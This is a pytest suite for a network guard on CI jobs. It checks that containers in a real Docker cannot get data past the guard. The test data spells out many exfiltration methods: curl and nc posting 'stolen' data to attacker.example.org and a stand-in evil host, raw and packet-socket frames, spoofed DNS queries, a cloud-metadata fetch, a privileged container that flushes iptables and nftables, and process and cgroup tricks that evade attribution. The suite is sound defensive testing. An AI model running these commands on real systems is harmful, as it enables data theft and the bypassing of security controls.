"""Containers of a real Docker in a guarded job: what leaves of them, what they may still do, and what is said of it.

Judged by what left eth0 and what the servers got. Containers trust the internet's authority and do not know the guard's.
"""

from __future__ import annotations

import platform
import shlex
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.attacks.programs import ask_name, python, send_tcp, send_udp
from tests.job.guarded import Job
from tests.job.test_processes import SAME_PORT
from tests.machine import Machine, start_docker
from tests.machine.machine import ADDRESS
from tests.world.internet import API, ATTACKERS, EVIL, EVIL6, METADATA, RESOLVER
from tests.world.servers import Connection

pytestmark = pytest.mark.root
TARGETS = (*ATTACKERS, METADATA)
ALLOW = "api.example.com http://api.example.com"
TOKEN = "tok_" + "Zx81kQwP0aLm3NvB7rTy55Hj"  # of nobody
CHECKOUT = "/home/runner/work/repo/repo"
CURL = ["curl", "-sSk", "-m", "5", "-d", "stolen"]

# Headers of our own making, for raw and packet sockets.
_HEADERS = """
import socket, struct, time
def packet(source, target, port, data):
    data = struct.pack("!HHHH", 4000, port, 8 + len(data), 0) + data
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(data), 1, 0, 64, 17, 0, socket.inet_aton(source), socket.inet_aton(target))
    total = sum(struct.unpack("!10H", head))
    total = (total & 0xFFFF) + (total >> 16)
    return head[:10] + struct.pack("!H", ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF) + head[12:] + data
"""
_FRAMES = (
    _HEADERS
    + f"""
route = next(words for words in map(str.split, open("/proc/net/route")) if words[1] == "00000000")
gateway = socket.inet_ntoa(struct.pack("=I", int(route[2], 16)))
for number in range(200):
    try: socket.socket(2, 2).sendto(b"", (gateway, 9))
    except OSError: pass
    known = {{words[0]: words[3] for words in map(str.split, open("/proc/net/arp"))}}
    if known.get(gateway, "00:00:00:00:00:00") != "00:00:00:00:00:00": break
    time.sleep(0.01)
probe = socket.socket(2, 2)
probe.connect((gateway, 9))
out = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800))
for bypass in (0, 1):
    out.setsockopt(263, 20, bypass)  # SOL_PACKET, PACKET_QDISC_BYPASS: packet(7)
    frame = packet(probe.getsockname()[0], "{EVIL}", 4444 + bypass, b"stolen")
    out.sendto(frame, (route[0], 0x0800, 0, 0, bytes.fromhex(known[gateway].replace(":", ""))))
"""
)
_FORGED = (
    _HEADERS
    + f"""
name = b"".join(bytes([len(one)]) + one for one in b"stolen.attacker.example.org".split(b"."))
question = struct.pack("!HHHHHH", 7, 0x100, 1, 0, 0, 0) + name + b"\\0" + struct.pack("!HH", 1, 1)
out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
for number in range(3):
    try: out.sendto(packet("{EVIL}", "{RESOLVER}", 53, question), ("{RESOLVER}", 0))
    except OSError as problem: print(problem)
"""
)
_UNDO = "nft flush ruleset; nft delete table inet ebbgate; nft delete table netdev ebbgate; iptables -t nat -F; iptables -F"
_SECRET = f"curl -sS -d T={TOKEN} http://api.example.com/"

# name: (options of docker run, command); the machine's files are the container's, read-only.
WAYS: dict[str, tuple[list[str], list[str]]] = {
    "default bridge": ([], [*CURL, "https://attacker.example.org/"]),
    "address literal": ([], [*CURL, f"https://{EVIL}/"]),
    "user-defined network, made after arming": (["--network", "mine"], [*CURL, "https://attacker.example.org/"]),
    "host network": (["--network", "host"], [*CURL, f"https://{EVIL}/"]),
    "privileged on the host network": (
        ["--network", "host", "--privileged"],
        ["sh", "-c", f"({_UNDO}) 2>/dev/null; curl -sSk -m 5 -d stolen https://{EVIL}/"],
    ),
    "namespace of another container": (["--network", "container:early"], [*CURL, f"http://{EVIL}/"]),
    "raw TCP": ([], send_tcp(EVIL, 4444)),
    "UDP": ([], send_udp(EVIL, 4444)),
    "UDP on the host network": (["--network", "host"], send_udp(EVIL, 4444)),
    "QUIC": ([], send_udp(EVIL, 443)),
    "ping": ([], ["ping", "-c", "1", "-W", "1", EVIL]),
    "DNS over UDP to another resolver": ([], ask_name(EVIL, "stolen.attacker.example.org")),
    "DNS over TCP to another resolver": ([], ask_name(EVIL, "stolen.attacker.example.org", tcp=True)),
    "DNS through Docker's own resolver": (["--network", "mine"], ["curl", "-sS", "-m", "5", "http://stolen.attacker.example.org/"]),
    "DNS over TLS": ([], send_tcp(EVIL, 853)),
    "IPv6": (["--network", "six"], ["curl", "-sSgk", "-m", "5", "-d", "stolen", f"http://[{EVIL6}]/"]),
    "UDP over IPv6": (["--network", "six"], send_udp(EVIL6, 4444)),
    "metadata": ([], ["curl", "-sS", "-m", "5", f"http://{METADATA}/latest/meta-data/"]),
    "frames of a packet socket": ([], python(_FRAMES)),
    "frames of a packet socket on the host network": (["--network", "host"], python(_FRAMES)),
    "DNS questions in the attacker's name": ([], python(_FORGED)),
    "DNS questions in the attacker's name, host network": (["--network", "host"], python(_FORGED)),
}  # fmt: skip
# These spoil the machine, Docker's own rules included, so that nothing after them would be as before.
SPOILING = {"privileged on the host network"}
# The guard's own resolver is what would send it there; without a guard there is nothing to reflect it.
REFLECTED = {one for one in WAYS if one.startswith("DNS questions in")}
NAMED = {"DNS over UDP to another resolver", "DNS over TCP to another resolver", "DNS through Docker's own resolver"} | REFLECTED


def contained(options: list[str], command: list[str]) -> list[str]:
    """With the machine's programs, in a container's namespaces and with the capabilities that Docker gives by default."""
    return ["docker", "run", "--rm", *options, "-v", "/:/host:ro", "busybox", "chroot", "/host", *command]


def furnish(machine: Machine) -> list[Connection]:
    """A Docker with containers that were there before the guard; the connection that one of them has open to the attacker."""
    start_docker(machine)
    # As distributions set it, forged senders are let through; strict machines drop some of what is tried here.
    machine.sh("for one in /proc/sys/net/ipv4/conf/*/rp_filter; do echo 0 >$one; done", user="root")
    talk = f"mkfifo /f; nc {EVIL} 4444 </f & exec 3>/f; until [ -e /go ]; do sleep 0.2; done; echo stolen >&3; sleep 600"
    for command in (
        ["network", "create", "--ipv6", "--subnet", "fd00:1::/64", "six"],
        ["run", "-d", "--name", "early", "-p", "5432:80", "curl", "httpd", "-f", "-h", "/etc"],
        ["run", "-d", "--name", "talker", "busybox", "sh", "-c", talk],
    ):
        done = machine.run(["docker", *command])
        assert done.code == 0, done.stderr
    machine.sh(f"until docker exec talker netstat -nt | grep -q '{EVIL}:4444 *ESTABLISHED'; do sleep 0.1; done")
    return machine.world.at(EVIL)


@pytest.fixture(scope="class")
def bare() -> Iterator[Machine]:
    """A machine with Docker and without a guard. Gone before the guarded ones come: all share one kernel, and its containers
    have the addresses of theirs.
    """
    with Machine() as machine:
        furnish(machine)
        assert machine.run(["docker", "network", "create", "mine"]).code == 0
        yield machine


@pytest.fixture(scope="module")
def talking() -> list[Connection]:
    """Connections that a container had open before the guard came."""
    return []


@pytest.fixture(scope="module")
def job(talking: list[Connection]) -> Iterator[Job]:
    with Machine() as machine:
        talking += furnish(machine)
        with Job(machine, secrets={"DEPLOY_TOKEN": TOKEN}, allow=ALLOW) as job:
            assert job.step(["docker", "network", "create", "mine"]).code == 0
            machine.write("/tmp/dockerd", Path("/usr/bin/curl").read_bytes(), mode=0o755)
            yield job


@pytest.fixture
def fresh_job() -> Iterator[Job]:
    """A job that a test may spoil."""
    with Machine() as machine:
        start_docker(machine)
        with Job(machine, secrets={"DEPLOY_TOKEN": TOKEN}, allow=ALLOW) as job:
            yield job


class Watch:
    """What happened in a job since."""

    def __init__(self, job: Job) -> None:
        self._job, self._known = job, len(job.events())
        job.machine.world.forget()

    def events(self, *kinds: str) -> list[dict]:
        self.verdict = self._job.verdict()
        return [one for one in self._job.events()[self._known :] if not kinds or one["kind"] in kinds]

    def denied(self) -> list[dict]:
        return [one for one in self.events() if one.get("decision", {}).get("action") == "deny"]


class TestUnguarded:
    @pytest.mark.parametrize("name", [one for one in WAYS if one not in REFLECTED])
    def test_it_is_a_real_attack(self, bare: Machine, name: str) -> None:
        bare.world.forget()
        done = bare.run(contained(*WAYS[name]), timeout=30)
        asked = {question for question, _type in bare.world.questions}
        assert {one for one in bare.sent() if one[0] in TARGETS} or (name in NAMED and "stolen.attacker.example.org" in asked), (
            done
        )


@pytest.mark.parametrize("name", WAYS)
def test_nothing_arrives_and_the_report_names_the_container(request: pytest.FixtureRequest, name: str) -> None:
    job: Job = request.getfixturevalue("fresh_job" if name in SPOILING else "job")
    watch = Watch(job)
    job.step(contained(*WAYS[name]), timeout=30)
    denied = watch.denied()
    assert {one for one in job.machine.sent() if one[0] in TARGETS} == set()
    assert [one for one in job.machine.world.questions if "stolen" in one[0] or "attacker" in one[0]] == []
    assert watch.verdict.code in (90, 91, 92)
    assert denied
    for one in denied:
        assert one["blocked"] if one["kind"] != "Packet" else one["enforced"]
        assert one["origin"]["party"] == "job"
        assert one["origin"]["process"]["exe"]
        assert one["origin"]["container"] is not None, one
        if one["origin"]["container"]["id"] != "runtime":  # Docker's own resolver asks for the container
            assert one["origin"]["container"]["image"] in ("busybox", "curl"), one


def test_a_connection_that_a_container_had_open_before_carries_nothing_more(job: Job, talking: list[Connection]) -> None:
    watch = Watch(job)
    assert job.step(["docker", "exec", "talker", "touch", "/go"]).code == 0
    job.step(["docker", "exec", "talker", "sleep", "1"])
    assert len(talking) == 1
    assert b"stolen" not in talking[0].received
    assert {one for one in job.machine.sent() if one[0] in TARGETS} == set()
    number = job.step(["docker", "inspect", "-f", "{{.Id}}", "talker"]).stdout.strip()
    assert ("busybox", number[:12]) in {
        (one["origin"]["container"]["image"], one["origin"]["container"]["id"]) for one in watch.denied()
    }
    assert job.step(["docker", "rm", "-f", "talker"]).code == 0


@pytest.mark.parametrize("options", [[], ["--network", "mine"], ["--network", "six"], ["--network", "host"]], ids=" ".join)
def test_an_allowed_host_over_tls_needs_no_trust_in_the_guard_and_counts_as_uninspected(job: Job, options: list[str]) -> None:
    watch = Watch(job)
    done = job.step(["docker", "run", "--rm", *options, "curl", "curl", "-sS", "https://api.example.com/x"])
    assert "got GET /x" in done.stdout, done.stderr
    (exchange,) = watch.events("Exchange")
    assert exchange["decision"]["action"] == "allow"
    assert exchange["inspection"] == "none"
    assert "container" in exchange["uninspected"]
    container = exchange["origin"]["container"]
    assert container["image"] == "curl"
    assert exchange["origin"]["process"]["exe"] == "/usr/bin/curl"
    assert exchange["origin"]["process"]["certain"]
    reached = next(one for one in watch.verdict.report["destinations"] if one["protocol"] == "tls")
    assert container in reached["containers"]
    assert reached["uninspected"]
    assert f"curl ({container['id']})" in watch.verdict.stdout


def test_programs_of_a_container_that_use_one_port_are_told_apart(job: Job) -> None:
    """Redirected, their connections have the same ends, and the kernel gives the later one another port, which is no socket's."""
    hosts = {"api.example.com": "/allowed", "attacker.example.org": "/denied"}
    watch = Watch(job)
    begun = [python(SAME_PORT) + [host, path] for host, path in hosts.items()]
    first, second = (" ".join(map(shlex.quote, one)) for one in begun)
    both = f"mkfifo /tmp/in /tmp/out; {first} </tmp/in >/tmp/out & exec 3>/tmp/in; head -1 /tmp/out; {second} </dev/null; exec 3>&-; wait"
    done = job.step(
        ["docker", "run", "--rm", "-v", "/:/host:ro", "-v", "/tmp/own:/host/tmp", "busybox", "chroot", "/host", "sh", "-c", both],
        timeout=30,
    )
    assert sorted(done.stdout.split("\n")) == ["", "b'HTTP/1.1 200'", "b'HTTP/1.1 403'"], done.stderr
    told = {one["path"]: one["origin"]["process"] for one in watch.events("Exchange")}
    assert set(told) == {"/allowed", "/denied"}
    for path, process in told.items():
        assert process["certain"] is True, told
        assert process["cmdline"].endswith(path), told


def test_plain_http_of_a_container_is_read(job: Job) -> None:
    watch = Watch(job)
    done = job.step(["docker", "exec", "early", "curl", "-sS", "http://api.example.com/plain"])
    assert "got GET /plain" in done.stdout, done.stderr
    (exchange,) = watch.events("Exchange")
    assert (exchange["inspection"], exchange["path"]) == ("full", "/plain")
    assert exchange["origin"]["container"]["image"] == "curl"


# A program called as a runtime is none in a container.
@pytest.mark.parametrize(
    "command",
    [
        ["docker", "run", "curl", "sh", "-c", f"(sleep 77 &); {_SECRET}; sleep 77; echo went on"],
        ["docker", "run", "--network", "host", "curl", "sh", "-c", f"{_SECRET}; sleep 77; echo went on"],
        contained([], ["sh", "-c", f"{_SECRET.replace('curl', '/tmp/dockerd', 1)}; sleep 77; echo went on"]),
        ["docker", "run", "--init", "curl", "sh", "-c", f"{_SECRET}; sleep 77; echo went on"],
    ],
    ids=["default bridge", "host network", "a program called dockerd", "with an init"],
)
def test_a_secret_is_cut_and_the_container_is_ended(job: Job, command: list[str]) -> None:
    watch = Watch(job)
    done = job.step(command, timeout=60)
    assert "went on" not in done.stdout
    assert done.code in (137, 143), done.stderr
    assert TOKEN.encode() not in job.machine.world.received(API)
    leak = next(one for one in watch.events("Exchange") if one["findings"])
    assert leak["blocked"]
    assert leak["origin"]["container"]["image"] in ("curl", "busybox")
    assert watch.verdict.code in (91, 92)
    assert TOKEN not in watch.verdict.stdout + str(watch.verdict.report) + str(watch.events())
    running = job.step(["docker", "ps", "--format", "{{.Names}}"])
    assert running.code == 0, "Docker itself goes on"
    assert "early" in running.stdout
    assert job.step(["docker", "exec", "early", "true"]).code == 0, "another container is another matter"


@pytest.mark.parametrize("buildkit", ["0", "1"])
def test_builds(job: Job, buildkit: str) -> None:
    lines = ["FROM curl", f"RUN curl -sS https://api.example.com/built-{buildkit}"]
    lines += [f"RUN curl -sSk -m 5 -d stolen https://{host}/ || true" for host in ("attacker.example.org", EVIL)]
    job.machine.write(f"{CHECKOUT}/Dockerfile", "\n".join(lines))
    watch = Watch(job)
    done = job.step(["docker", "build", "--no-cache", "."], env={"DOCKER_BUILDKIT": buildkit}, timeout=60)
    assert done.code == 0, done.stderr
    assert [one.requests[0].path for one in job.machine.world.at(API)] == [f"/built-{buildkit}"]
    assert {one for one in job.machine.sent() if one[0] in TARGETS} == set()
    exchanges = watch.events("Exchange")
    assert {one["host"] for one in exchanges if one["blocked"]} == {"attacker.example.org", EVIL}
    assert {one["inspection"] for one in exchanges if not one["blocked"]} == {"none"}
    images = {one["origin"]["container"]["image"] for one in exchanges}
    assert images == {"docker build"} if buildkit == "1" else all(one.startswith("sha256:") for one in images)


def test_a_secret_in_a_build_ends_the_build(job: Job) -> None:
    job.machine.write(f"{CHECKOUT}/Dockerfile", f"FROM curl\nRUN {_SECRET}; sleep 30\n")
    done = job.step(["docker", "build", "--no-cache", "."], env={"DOCKER_BUILDKIT": "1"}, timeout=25)
    assert done.code != 0
    assert TOKEN.encode() not in job.machine.world.received(API)
    assert job.step(["docker", "ps"]).code == 0


def test_what_stays_in_the_machine_works(job: Job) -> None:
    """Published ports, as service containers have them; containers among each other by name and by address."""
    watch = Watch(job)
    job.step(
        ["docker", "run", "-d", "--name", "late", "-p", "6379:80", "--network", "mine", "busybox", "httpd", "-f", "-h", "/etc"]
    )
    for port in (5432, 6379):
        for host in ("localhost", "127.0.0.1", ADDRESS):
            got = job.step(["curl", "-sS", "-m", "9", "--retry", "3", "--retry-connrefused", f"http://{host}:{port}/passwd"])
            assert "root:" in got.stdout, (host, port, got.stderr)
    address = job.step(["docker", "inspect", "-f", "{{.NetworkSettings.IPAddress}}", "early"]).stdout.strip()
    for network, host in (("mine", "late"), ("bridge", address), ("bridge", f"{ADDRESS}:6379"), ("mine", f"{ADDRESS}:5432")):
        got = job.step(["docker", "run", "--rm", "--network", network, "curl", "curl", "-sS", "-m", "9", f"http://{host}/passwd"])
        assert "root:" in got.stdout, (network, host, got.stderr)
    assert watch.denied() == []
    assert job.machine.sent() == set()
    assert job.step(["docker", "rm", "-f", "late"]).code == 0


_ANSWERING = """
import socket
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as server:
    server.bind(("0.0.0.0", 53))
    while True: server.sendto(b"pong", server.recvfrom(512)[1])
"""


def test_a_nameserver_in_a_container_is_asked_itself(job: Job) -> None:
    """Not the gate, which speaks for the world only; what such a server asks in turn does come to the gate."""
    options = ["-d", "--name", "names", "-p", "5353:53/udp"]
    assert job.step(contained(options, python(_ANSWERING))).code == 0
    address = job.step(["docker", "inspect", "-f", "{{.NetworkSettings.IPAddress}}", "names"]).stdout.strip()

    def ask(host: str, port: int) -> list[str]:
        return python(
            "import socket\ns = socket.socket(2, 2); s.settimeout(0.5)\n"
            "for _ in range(10):\n"
            f"    s.sendto(b'ping', ({host!r}, {port}))\n"
            "    try: print(s.recv(9)); break\n"
            "    except OSError: pass\n"
        )

    watch = Watch(job)
    for command in (ask(address, 53), ask("127.0.0.1", 5353), contained([], ask(address, 53))):
        assert "pong" in job.step(command).stdout, command
    assert watch.denied() == []
    assert job.step(["docker", "rm", "-f", "names"]).code == 0


@pytest.mark.parametrize("driver", ["macvlan", "ipvlan"])
def test_a_network_on_top_of_the_uplink_leads_nowhere(fresh_job: Job, driver: str) -> None:
    job = fresh_job
    made = [
        "docker",
        "network",
        "create",
        "-d",
        driver,
        "-o",
        "parent=eth0",
        "--subnet",
        "192.0.2.0/24",
        "--gateway",
        "192.0.2.1",
        driver,
    ]
    assert job.step(made).code == 0
    watch = Watch(job)
    tries = f"ping -c1 -W1 {EVIL}; nc -w 1 {EVIL} 4444 </etc/passwd; nslookup stolen.attacker.example.org {EVIL}"
    done = job.step(
        ["docker", "run", "--rm", "--network", driver, "--ip", "192.0.2.77", "busybox", "sh", "-c", tries], timeout=40
    )
    assert {one for one in job.machine.sent() if one[0] in TARGETS} == set()
    assert job.machine.world.questions == []
    if driver == "ipvlan" and "not supported" in done.stderr:  # this kernel has none: Docker could not even make it
        return
    assert done.code != 125, done.stderr
    assert any(f"a {driver} interface" in one["what"] for one in watch.events("Tampering"))
    assert watch.denied()
    assert watch.verdict.code == 92


def test_a_daemon_that_fetches_an_image_is_told_as_what_it_is(job: Job) -> None:
    watch = Watch(job)
    job.step(["docker", "pull", "api.example.com/some/image"])
    assert [one.requests[0].path for one in job.machine.world.at(API)][:1] == ["/v2/"]
    assert {(one["origin"]["container"]["id"], one["inspection"]) for one in watch.events("Exchange")} == {("runtime", "none")}
    watch = Watch(job)
    job.step(["docker", "pull", "attacker.example.org/some/image"])
    assert job.machine.world.at(*ATTACKERS) == []
    assert {one["origin"]["container"]["image"] for one in watch.denied() if one["kind"] == "Exchange"} == {"dockerd"}


_CLONE = {"x86_64": 56, "aarch64": 220}[platform.machine()]
_ORPHAN = f"""
import ctypes, os, sys
first = os.getpid()
if os.fork(): os.wait(); os._exit(0)
if os.fork(): os._exit(0)
middle = os.getppid()
while os.getppid() == middle and middle != 1: middle = os.getppid()
pid = ctypes.CDLL(None).syscall({_CLONE}, 0x8000 | 17, 0, 0, 0, 0)  # CLONE_PARENT: init's child, as a runtime of the machine's
if pid == 0: os.execv(sys.argv[1], sys.argv[1:])
"""
_FETCH = "-sS -o /tmp/fetched https://api.example.com/passing"
_GROUP = "/sys/fs/cgroup/docker/" + "a" * 64
PASSING = {
    "a program called dockerd": f"/tmp/dockerd {_FETCH}",
    "a program called dockerd that is init's child": f"/usr/bin/python3 /tmp/orphan.py /tmp/dockerd {_FETCH}",
    "a group called as a container's": f"sudo sh -c 'mkdir -p {_GROUP}; echo '$$' >{_GROUP}/cgroup.procs'; curl {_FETCH}",
    "such a group, as init's child": (
        f"sudo sh -c 'mkdir -p {_GROUP}; echo '$$' >{_GROUP}/cgroup.procs'; /usr/bin/python3 /tmp/orphan.py /usr/bin/curl {_FETCH}"
    ),
}


@pytest.mark.parametrize("name", PASSING)
def test_a_step_does_not_pass_for_a_container(job: Job, name: str) -> None:
    """What is a container's is not read."""
    job.machine.write("/tmp/orphan.py", _ORPHAN)
    watch = Watch(job)
    done = job.step(["bash", "-c", PASSING[name]], name="passing", timeout=30)
    job.machine.sh("for _ in $(seq 100); do [ ! -e /tmp/fetched ] || break; sleep 0.05; done; rm -f /tmp/fetched")
    exchanges = watch.events("Exchange")
    assert [(one["inspection"], one["path"]) for one in exchanges] == [("full", "/passing")], (exchanges, done)
    assert exchanges[0]["origin"]["container"] is None


def test_closed_sockets_and_inspection_where_the_policy_demands_it() -> None:
    policy = "version: 1\ninspect-containers: true\nallow:\n  - api.example.com\n  - {host: api.example.com, protocol: http}\n"
    with Machine() as machine:
        start_docker(machine)
        machine.run(["docker", "run", "-d", "--name", "early", "curl", "sleep", "600"])
        with Job(machine, policy=policy, containers="close") as job:
            for command in (["docker", "ps"], ["docker", "run", "--rm", "busybox", "true"]):
                refused = job.step(command)
                assert refused.code != 0
                assert "permission denied" in refused.stderr
            fetch = ["docker", "exec", "early", "curl", "-sS", "-m", "9"]
            unread = machine.run([*fetch, "https://api.example.com/unread"], user="root")
            assert unread.code == 60, unread.stderr  # the certificate is the guard's
            assert machine.world.at(API) == []
            assert "got GET /read" in machine.run([*fetch, "http://api.example.com/read"], user="root").stdout
            verdict = job.verdict()
            assert verdict.code == 0
            assert any("container sockets are closed" in one["what"] for one in verdict.report["notices"])
        assert machine.run(["docker", "ps"]).code == 0


def test_audit_mode_lets_containers_go_where_they_want_and_says_where() -> None:
    with Machine() as machine:
        start_docker(machine)
        with Job(machine, mode="audit") as job:
            for network in ("bridge", "host"):
                command = [
                    "docker",
                    "run",
                    "--rm",
                    "--network",
                    network,
                    "curl",
                    "curl",
                    "-sSk",
                    f"https://attacker.example.org/{network}",
                ]
                assert f"got GET /{network}" in job.step(command).stdout
                job.step(contained(["--network", network], send_udp(EVIL, 4444)))
            assert {(EVIL, 17, 4444), (EVIL, 6, 443)} <= machine.sent()
            verdict = job.verdict()
            assert verdict.code == 0
            told = [one for one in verdict.report["incidents"] if one["kind"] == "blocked"]
            assert {one["origin"]["container"]["image"] for one in told} == {"curl", "busybox"}
